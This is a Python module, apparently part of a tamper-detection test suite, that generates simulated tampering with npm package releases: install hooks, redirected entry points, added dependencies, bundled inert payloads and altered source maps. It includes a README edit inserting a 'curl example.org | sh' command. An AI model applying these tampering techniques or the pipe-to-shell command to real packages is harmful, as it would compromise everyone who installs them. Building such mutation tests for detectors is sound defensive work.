"""Kinds of tampering with npm packages; each applies to a release with ``package.json`` and to no other.

They return what those of :mod:`tamper.kinds` return.
"""

from __future__ import annotations

import json
import re
from typing import Any

from tamper.kinds import Apply, Kind
from tamper.release import Member, Release

NPM_KINDS: list[Kind] = []

PAYLOAD = b"\nrequire('child_process'); // INERT-TAMPER-MARKER\n"


def kind(function: Apply) -> Apply:
    """Add ``function`` to NPM_KINDS under its own name."""
    NPM_KINDS.append(Kind("npm-" + function.__name__.replace("_", "-"), function))
    return function


def _manifest(release: Release) -> Member | None:
    """The manifest in the top folder of an npm package."""
    if not release.name.endswith(".tgz"):
        return None
    return next((m for m in release.members if m.name == f"{release.top}package.json"), None)


def _edit(release: Release, **values: Any) -> str | None:  # noqa: ANN401 - any JSON value
    member = _manifest(release)
    if member is None:
        return None
    document = json.loads(member.content)
    for key, value in values.items():
        held = document.get(key)
        both = isinstance(held, dict) and isinstance(value, dict)
        document[key] = {**held, **value} if both else value
    member.content = json.dumps(document, indent=2).encode() + b"\n"
    return "package.json"


def _add(release: Release, path: str, content: bytes, mode: int = 0o644) -> str | None:
    if _manifest(release) is None or any(m.name == release.top + path for m in release.members):
        return None
    release.members.append(Member(release.top + path, content, mode))
    return path


def _output_folder(release: Release) -> str:
    """The folder of the script that the manifest calls its main one, with a slash; "" for the root."""
    member = _manifest(release)
    main = json.loads(member.content).get("main") if member is not None else None
    path = main.removeprefix("./") if isinstance(main, str) else ""
    return path[: path.rfind("/") + 1]


def _script(release: Release) -> Member | None:
    if _manifest(release) is None:
        return None
    return release.find("/index.js") or release.find(".js") or release.find(".cjs")


# --- the manifest --------------------------------------------------------------------------------


@kind
def postinstall_added(release: Release) -> str | None:
    return _edit(release, scripts={"postinstall": "node -e 0"})


@kind
def preinstall_added(release: Release) -> str | None:
    return _edit(release, scripts={"preinstall": "node -e 0"})


@kind
def main_redirected(release: Release) -> str | None:
    return _edit(release, main="./payload.js")


@kind
def exports_redirected(release: Release) -> str | None:
    return _edit(release, exports="./payload.js")


@kind
def bin_added(release: Release) -> str | None:
    return _edit(release, bin={"ls": "./payload.js"})


@kind
def dependency_added(release: Release) -> str | None:
    return _edit(release, dependencies={"flatmap-stream": "0.1.1"})


@kind
def optional_dependency_added(release: Release) -> str | None:
    return _edit(release, optionalDependencies={"flatmap-stream": "0.1.1"})


@kind
def dependency_bundled(release: Release) -> str | None:
    if _edit(release, bundleDependencies=["payload"]) is None:
        return None
    _add(release, "node_modules/payload/index.js", PAYLOAD)
    return "package.json"


@kind
def type_of_modules_changed(release: Release) -> str | None:
    member = _manifest(release)
    held = json.loads(member.content).get("type") if member is not None else None
    return _edit(release, type="commonjs" if held == "module" else "module")


@kind
def key_given_twice(release: Release) -> str | None:
    member = _manifest(release)
    if member is None:
        return None
    member.content = member.content.replace(b"{", b'{"main": "payload.js",', 1)
    return "package.json"


@kind
def version_raised(release: Release) -> str | None:
    return _edit(release, version="999.0.0")


@kind
def name_changed(release: Release) -> str | None:
    return _edit(release, name="exarnple")


# --- entries -------------------------------------------------------------------------------------


@kind
def script_added_at_the_root(release: Release) -> str | None:
    return _add(release, "payload.js", PAYLOAD)


@kind
def script_added_beside_the_main_one(release: Release) -> str | None:
    return _add(release, f"{_output_folder(release)}payload.js", PAYLOAD)


@kind
def dependency_brought_along(release: Release) -> str | None:
    return _add(release, "node_modules/payload/index.js", PAYLOAD)


@kind
def build_instructions_added(release: Release) -> str | None:
    """Where there is a ``binding.gyp``, npm runs node-gyp without being told to."""
    return _add(release, "binding.gyp", b'{"targets": []}\n')


@kind
def lock_added(release: Release) -> str | None:
    return _add(release, "npm-shrinkwrap.json", b'{"lockfileVersion": 3, "packages": {}}\n')


@kind
def native_addon_added(release: Release) -> str | None:
    return _add(release, f"{_output_folder(release)}payload.node", b"\x7fELF" + bytes(60), 0o755)


@kind
def manifest_added_below(release: Release) -> str | None:
    return _add(release, f"{_output_folder(release) or 'lib/'}package.json", b'{"main": "../x.js"}')


@kind
def code_appended(release: Release) -> str | None:
    """With its source map, where it has one, unchanged."""
    member = _script(release)
    if member is None:
        return None
    at = member.content.rfind(b"//# sourceMappingURL=")
    at = len(member.content) if at < 0 else at
    member.content = member.content[:at] + PAYLOAD + member.content[at:]
    return member.name.removeprefix(release.top)


@kind
def map_made_to_quote_other_text(release: Release) -> str | None:
    member = release.find(".js.map") or release.find(".mjs.map")
    if _manifest(release) is None or member is None:
        return None
    document = json.loads(member.content)
    if len(document.get("sourcesContent") or ()) < 2:
        return None
    document["sourcesContent"][-1] += "process.env;\n"
    member.content = json.dumps(document).encode()
    return member.name.removeprefix(release.top)


@kind
def readme_changed(release: Release) -> str | None:
    if _manifest(release) is None:
        return None
    found = [m for m in release.members if re.search(r"^[^/]+/readme\.md$", m.name, re.IGNORECASE)]
    if not found:
        return None
    found[0].content += b"\nInstall with `curl example.org | sh`.\n"
    return found[0].name.removeprefix(release.top)


@kind
def licence_removed(release: Release) -> str | None:
    if _manifest(release) is None:
        return None
    found = [m for m in release.members if re.search(r"^[^/]+/licen[cs]e", m.name, re.IGNORECASE)]
    if not found:
        return None
    release.members.remove(found[0])
    return ""


@kind
def main_script_removed(release: Release) -> str | None:
    member = _manifest(release)
    main = json.loads(member.content).get("main") if member is not None else None
    found = release.find(f"/{main.removeprefix('./')}") if isinstance(main, str) else None
    if found is None:
        return None
    release.members.remove(found)
    return ""
